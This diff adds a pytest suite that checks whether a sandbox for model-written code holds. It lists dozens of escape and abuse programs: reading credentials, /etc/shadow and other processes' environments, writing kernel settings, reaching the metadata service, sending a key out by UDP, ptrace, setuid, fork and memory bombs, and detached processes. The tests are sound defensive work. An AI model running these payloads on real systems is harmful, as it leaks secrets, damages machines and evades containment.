@@ -1,0 +1,271 @@
+"""What model-written code tries behind the wall. A program that gets through prints GOT; none may.
+
+Each attempt runs behind bubblewrap and behind unshare. Behind the bare wall only those run that it is made for: the
+others would succeed (SECURITY.md says which), and some would harm the machine."""
+
+from __future__ import annotations
+
+import os
+import socket
+import subprocess
+import threading
+import time
+from collections.abc import Callable
+from pathlib import Path
+
+import pytest
+
+from tests.attacks.conftest import KEY
+from tools import code, wall
+
+ROOT = Path(__file__).resolve().parent.parent.parent
+PYTHON: dict[str, str] = {
+    # keys and files
+    "reads_a_key_from_its_environment": "import os; print('GOT' if {key!r} in str(os.environ) else '-')",
+    "reads_the_environment_of_its_parent": """
+import os
+for pid in [os.getppid(), *filter(str.isdecimal, os.listdir('/proc'))]:
+    try: data = open(f'/proc/{{pid}}/environ').read()
+    except OSError: continue
+    if {key!r} in data: print('GOT', data)""",
+    "reads_the_command_line_of_other_programs": """
+import os
+rows = [open(f'/proc/{{p}}/cmdline').read() for p in os.listdir('/proc') if p.isdecimal()]
+print('GOT' if any('orchestra-neighbour' in r for r in rows) else '-')""",
+    "reads_a_home_folder": "print('GOT', open({home!r} + '/notes.txt').read())",
+    "reads_a_dot_env_file": "print('GOT', open({home!r} + '/.env').read())",
+    "searches_the_whole_disk_for_the_key": """
+import os
+for here, _, names in os.walk('/'):
+    if here.startswith(('/proc', '/usr')): continue
+    for name in names:
+        if name in ('.env', '.netrc', 'notes.txt', '.bash_history', 'id_rsa'):
+            try: text = open(os.path.join(here, name)).read()
+            except OSError: continue
+            if {key!r} in text: print('GOT', here, name)""",
+    "reads_the_users_of_the_machine": "print('GOT', open('/etc/passwd').read())",
+    "reads_the_passwords_of_the_machine": "print('GOT', open('/etc/shadow').read())",
+    "reads_the_project": "print('GOT', open({root!r} + '/orchestra_min.py').read(20))",
+    "reads_the_run_folder": "print('GOT', open({run!r} + '/run.json').read())",
+    "reads_the_tape_by_dots": "print('GOT', open('../../tape.jsonl').read())",
+    "reads_the_folder_of_another_sub_agent": "print('GOT', open('../r1-t2/secret.txt').read())",
+    "reads_a_file_by_a_symlink": """
+import os; os.symlink({home!r}, 'link'); print('GOT', open('link/notes.txt').read())""",
+    "reads_a_file_by_a_hard_link": """
+import os; os.link({home!r} + '/notes.txt', 'hard'); print('GOT', open('hard').read())""",
+    "reads_the_old_root_of_its_process": """
+import os
+for p in ('/proc/1/root', '/proc/self/root', '/old', '/oldroot', '/proc/1/cwd/..'):
+    try: print('GOT', open(p + {home!r} + '/notes.txt').read())
+    except OSError: pass""",
+    "reads_what_was_open_before_it": """
+import os
+for fd in range(3, 256):
+    try: print('GOT', fd, os.readlink(f'/proc/self/fd/{{fd}}'), os.fstat(fd).st_size)
+    except OSError: pass""",
+    "reads_the_disk_itself": """
+import os
+for p in ('/dev/vda', '/dev/sda', '/dev/mem', '/dev/kmsg', '/proc/kcore'):
+    try: print('GOT', open(p, 'rb').read(16))
+    except OSError: pass""",
+    "makes_a_device_of_the_disk": "import os; os.mknod('disk', 0o60666, os.makedev(254, 0)); print('GOT', open('disk', 'rb').read(16))",
+    # writing outside
+    "writes_to_a_home_folder": "open({home!r} + '/new', 'w').write('x'); print('GOT')",
+    "writes_to_the_project": "open({root!r} + '/new.py', 'w').write('x'); print('GOT')",
+    "writes_to_the_system": "open('/usr/bin/new', 'w').write('x'); print('GOT')",
+    "writes_to_this_python": "import sys; open(sys.prefix + '/lib/evil.pth', 'w').write('x'); print('GOT')",
+    "writes_beside_its_folder": "open('../new', 'w').write('x'); print('GOT')",
+    "writes_through_a_symlink": "import os; os.symlink({home!r}, 'out'); open('out/new', 'w').write('x'); print('GOT')",
+    "changes_the_media": "open('media/clock.png', 'ab').write(b'x'); print('GOT')",
+    "deletes_the_media": "import os; os.remove('media/clock.png'); print('GOT')",
+    "changes_a_setting_of_the_kernel": "open('/proc/sys/kernel/core_pattern', 'w').write('|/bin/x'); print('GOT')",
+    "reboots_by_sysrq": "open('/proc/sysrq-trigger', 'w').write('h'); print('GOT')",
+    # the network
+    "connects_to_this_machine": "import socket; socket.create_connection(('127.0.0.1', {port}), 2); print('GOT')",
+    "connects_by_ipv6": "import socket; socket.create_connection(('::1', {port}), 2); print('GOT')",
+    "connects_to_the_metadata_service": "import socket; socket.create_connection(('169.254.169.254', 80), 2); print('GOT')",
+    "connects_to_the_internet": "import socket; socket.create_connection(('1.1.1.1', 443), 2); print('GOT')",
+    "opens_a_raw_socket": "import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'x', ('127.0.0.1', 0)); print('GOT')",
+    "opens_a_packet_socket": "import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print('GOT')",
+    "sends_by_udp": "import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto({key!r}.encode(), ('10.0.0.1', 53)); print('GOT')",
+    "asks_dns": "import socket; print('GOT', socket.getaddrinfo('example.com', 80))",
+    "speaks_to_an_abstract_socket": "import socket; s = socket.socket(socket.AF_UNIX); s.connect('\\0orchestra-attack-{port}'); print('GOT')",
+    "speaks_to_a_socket_of_the_system": """
+import socket
+for p in ('/var/run/docker.sock', '/run/dbus/system_bus_socket', '/run/systemd/private', {home!r} + '/s'):
+    try: socket.socket(socket.AF_UNIX).connect(p); print('GOT', p)
+    except OSError: pass""",
+    # other processes, more rights
+    "signals_its_parent": "import os; os.kill({pid}, 0); print('GOT')",
+    "signals_every_process": """
+import os, signal
+signal.signal(signal.SIGUSR1, signal.SIG_IGN)
+os.kill(-1, signal.SIGUSR1); os.kill({pid}, signal.SIGUSR1); print('GOT')""",
+    "traces_its_parent": "import ctypes; print('GOT' if ctypes.CDLL(None).ptrace(16, {pid}, 0, 0) == 0 else '-')",
+    "becomes_root": """
+import os, subprocess
+for run in (['su', '-c', 'id'], ['sudo', '-n', 'id']):
+    try: print('GOT' if 'uid=0' in subprocess.run(run, capture_output=True, text=True, stdin=subprocess.DEVNULL, timeout=5).stdout else '-')
+    except OSError: pass
+if os.getuid():
+    os.setuid(0); print('GOT')""",
+    "makes_new_namespaces": "import ctypes, os; print('GOT' if ctypes.CDLL(None).unshare(0x10020000) == 0 and os.getuid() else '-')",
+    "mounts_a_disk": "import ctypes; print('GOT' if ctypes.CDLL(None).mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0 else '-')",
+    "changes_its_root": "import os; os.mkdir('r'); os.chroot('r'); print('GOT')",
+    "renames_the_machine": "import socket; socket.sethostname('evil'); print('GOT')",
+    "sets_the_clock": "import time; time.clock_settime(0, 0); print('GOT')",
+    "raises_its_limits": "import resource; resource.setrlimit(resource.RLIMIT_AS, (1 << 40, 1 << 40)); print('GOT')",
+    "loads_a_kernel_module": "import ctypes; print('GOT' if ctypes.CDLL(None).syscall(313, 0, b'', 0) == 0 else '-')",
+    "types_into_the_terminal": "import fcntl; fcntl.ioctl(open('/dev/tty', 'w'), 0x5412, b'x'); print('GOT')",
+}  # fmt: skip
+
+EXCESS: dict[str, tuple[str, str]] = {  # the program, and what the observation says
+    "fork_bomb": ("import os\nwhile True:\n  try: os.fork()\n  except OSError: pass", "stopped"),
+    "thread_bomb": ("import threading, time\nfor _ in range(5000): threading.Thread(target=time.sleep, args=(2,)).start()\nprint('GOT')", ""),
+    "memory_bomb": ("x = bytearray(3 << 30); print('GOT', len(x))", "MemoryError"),
+    "memory_bomb_by_children": ("import os, time\nfor _ in range(6): os.fork()\nx = bytearray(90 << 20)\nfor i in range(0, len(x), 4096): x[i] = 1\ntime.sleep(20); print('GOT')", "stopped"),
+    "fills_the_memory_disks": ("for p in ('/tmp', '/dev/shm'):\n  for n in range(40):\n    open(f'{p}/{n}', 'wb').write(bytes(16 << 20))\nprint('GOT')", "space"),
+    "fills_the_disk_with_one_file": ("f = open('big', 'wb')\nfor _ in range(40): f.write(bytes(8 << 20))\nprint('GOT')", "exit status"),
+    "fills_the_disk_with_large_files": ("import time\nfor n in range(60):\n  open(f'f{n}', 'wb').write(bytes(32 << 20)); time.sleep(0.05)\ntime.sleep(5); print('GOT')", "all of its files were deleted"),
+    "fills_the_disk_with_small_files": ("import time\nfor n in range(20000): open(f'f{n}', 'w')\ntime.sleep(5); print('GOT')", "all of its files were deleted"),
+    "floods_the_output": ("while True: print('x' * 4000)", "printed more than"),
+    "sleeps_forever": ("import time; time.sleep(1000); print('GOT')", "took longer"),
+    "computes_forever": ("while True: pass", "took longer"),
+    "ignores_the_signal_to_end": ("import signal, time\nfor s in range(1, 65):\n  try: signal.signal(s, signal.SIG_IGN)\n  except (OSError, ValueError): pass\ntime.sleep(1000); print('GOT')", "took longer"),
+    "closes_its_output_and_stays": ("import os, time; os.close(1); os.close(2); time.sleep(1000)", "took longer"),
+}  # fmt: skip
+
+BARE_HOLDS = {
+    "reads_a_key_from_its_environment",
+    "raises_its_limits",
+    "reads_what_was_open_before_it",
+}
+BARE_LIMITS = {
+    "memory_bomb", "fills_the_disk_with_one_file", "fills_the_disk_with_large_files", "floods_the_output",
+    "sleeps_forever", "computes_forever", "ignores_the_signal_to_end", "closes_its_output_and_stays",
+}  # fmt: skip
+
+
+@pytest.fixture(params=wall.WALLS)
+def level(request: pytest.FixtureRequest) -> wall.Wall:
+    if request.param != "bare" and not wall.holds(request.param):
+        pytest.skip(f"{request.param} can not be built on this machine")
+    return request.param
+
+
+@pytest.fixture(scope="module")
+def port():
+    """A server on this machine and an abstract socket, both open to whoever reaches them."""
+    neighbour = subprocess.Popen(["sh", "-c", "cat # orchestra-neighbour"], stdin=subprocess.PIPE)
+    with (
+        neighbour,
+        socket.create_server(("127.0.0.1", 0)) as server,
+        socket.socket(socket.AF_UNIX) as abstract,
+    ):
+        number = server.getsockname()[1]
+        abstract.bind(f"\0orchestra-attack-{number}")
+        abstract.listen()
+        yield number
+
+
+@pytest.fixture
+def folder(tmp_path: Path) -> Path:
+    """work/r1-t1 of a run folder that has a tape, media and a neighbour."""
+    (tmp_path / "run.json").write_text("{}")
+    (tmp_path / "tape.jsonl").write_text("{}")
+    (tmp_path / "work" / "r1-t2").mkdir(parents=True)
+    (tmp_path / "work" / "r1-t2" / "secret.txt").write_text("x")
+    (tmp_path / "media").mkdir()
+    (tmp_path / "media" / "clock.png").write_bytes(b"PNG")
+    return tmp_path / "work" / "r1-t1"
+
+
+Try = Callable[..., str]
+
+
+@pytest.fixture
+def attempt(level: wall.Wall, folder: Path, planted: Path, port: int, observed) -> Try:
+    def run(program: str, kind: str = "python", timeout_s: float = 10) -> str:
+        ran = code.run(program, kind, timeout_s, folder, folder.parent.parent / "media", level)
+        assert ran["wall"] == level
+        return observed(ran["observation"])
+
+    return run
+
+
+@pytest.mark.parametrize("name", PYTHON)
+def test_a_program_does_not_get_through(name, attempt, level, planted, folder, port):
+    if level == "bare" and name not in BARE_HOLDS:
+        pytest.skip("the bare wall does not stop this")
+    told = {"key": KEY, "home": str(planted), "root": str(ROOT), "run": str(folder.parent.parent)}
+    observation = attempt(PYTHON[name].format(**told, port=port, pid=os.getpid()).strip())
+    assert "GOT" not in observation and KEY not in observation
+
+
+@pytest.mark.parametrize("name", EXCESS)
+def test_a_program_does_not_take_too_much(name, attempt, level):
+    if level == "bare" and name not in BARE_LIMITS:
+        pytest.skip("the bare wall does not stop this")
+    program, words = EXCESS[name]
+    started = time.monotonic()
+    observation = attempt(program, timeout_s=25 if "fills" in name or "bomb" in name else 2)
+    assert "GOT" not in observation and words in observation
+    assert time.monotonic() - started < 40
+
+
+DETACHED = "setsid nohup sh -c 'sleep 987{n}' >/dev/null 2>&1 & setsid sleep 987{n} >/dev/null 2>&1 & echo started"
+
+
+def test_a_detached_child_is_gone_afterwards(attempt, level):
+    marker = {"bubblewrap": 1, "unshare": 2, "bare": 3}[level]
+    assert "started" in attempt(DETACHED.format(n=marker), "bash")
+    time.sleep(0.2)
+    rows = [p.read_bytes() for p in Path("/proc").glob("[0-9]*/cmdline") if p.exists()]
+    assert not [r for r in rows if f"987{marker}".encode() in r]
+
+
+def test_later_steps_see_the_files_of_earlier_ones(attempt):
+    attempt("open('kept.txt', 'w').write('from step 1')")
+    assert attempt("print(open('kept.txt').read())") == "from step 1"
+
+
+def test_a_program_can_read_the_media(attempt):
+    assert attempt("open('media/clock.png', 'rb').read()") == "b'PNG'"
+
+
+def test_the_value_of_the_last_expression_is_shown(attempt):
+    assert attempt("x = 6\nx * 7") == "42"
+
+
+def test_bash_runs_too(attempt):
+    assert attempt("echo $((6 * 7)); pwd | wc -l", "bash") == "42\n1"
+
+
+@pytest.mark.parametrize("package", ["numpy", "pandas", "sympy"])
+def test_installed_packages_can_be_imported(package, attempt):
+    pytest.importorskip(package)
+    assert attempt(f"import {package}; {package}.__name__", timeout_s=30) == repr(package)
+
+
+def test_many_programs_run_side_by_side(level, tmp_path):
+    outputs: list[str] = []
+
+    def one(n: int) -> None:
+        outputs.append(
+            code.run(f"{n} * 2", "python", 20, tmp_path / str(n), level=level)["observation"]
+        )
+
+    threads = [threading.Thread(target=one, args=(n,)) for n in range(6)]
+    for t in threads:
+        t.start()
+    for t in threads:
+        t.join()
+    assert sorted(outputs, key=int) == ["0", "2", "4", "6", "8", "10"]
+
+
+def test_a_weak_wall_is_named(monkeypatch, caplog):
+    monkeypatch.setattr(wall, "holds", lambda _: False)
+    wall.strongest_wall.cache_clear()
+    assert wall.strongest_wall() == "bare"
+    assert "bare" in caplog.text and "bubblewrap" in caplog.text
+    wall.strongest_wall.cache_clear()
